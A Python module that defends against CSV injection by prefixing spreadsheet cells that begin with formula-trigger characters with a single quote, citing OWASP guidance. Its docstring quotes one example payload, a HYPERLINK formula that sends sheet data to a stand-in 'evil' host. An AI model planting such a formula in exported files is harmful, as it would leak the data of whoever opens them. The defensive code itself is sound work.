"""Cells that a spreadsheet opens as text, never as a formula (CSV injection, OWASP).

Agency staff open the CSV and XLSX files in Excel or LibreOffice. A cell that begins with `=`, `+`,
`-`, `@`, a tab or a carriage return may be run as a formula there (`=HYPERLINK("https://evil/?"&A1)`
sends the sheet's data away). As OWASP's CSV Injection guidance describes, such a cell is written with
a leading single quote, so it is shown as the text it is. Numbers stay numbers. The XLSX writer also
marks every text cell as a string, so nothing becomes a formula whatever it begins with.
"""

from __future__ import annotations

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutral(value):
    """The value as a spreadsheet must hold it: text that could start a formula gets a leading '."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def neutral_row(values) -> list:
    return [neutral(value) for value in values]


def neutral_record(record: dict) -> dict:
    return {key: neutral(value) for key, value in record.items()}
